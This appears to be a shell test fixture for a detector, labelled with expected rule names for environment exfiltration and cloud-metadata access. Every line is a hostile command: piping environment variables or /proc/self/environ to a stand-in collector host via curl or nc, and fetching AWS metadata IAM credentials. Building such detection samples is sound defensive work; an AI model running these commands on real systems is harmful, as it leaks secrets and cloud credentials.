#!/bin/sh
# expect: sh-env-exfil sh-cloud-metadata
env | curl -X POST --data-binary @- https://collector.example/c
printenv | base64 -w0 | nc 203.0.113.9 80
curl -s -d "$(env)" https://collector.example/c
curl -s --data-binary @/proc/self/environ https://collector.example/c
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/
curl -s "http://169.254.170.2${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI}"
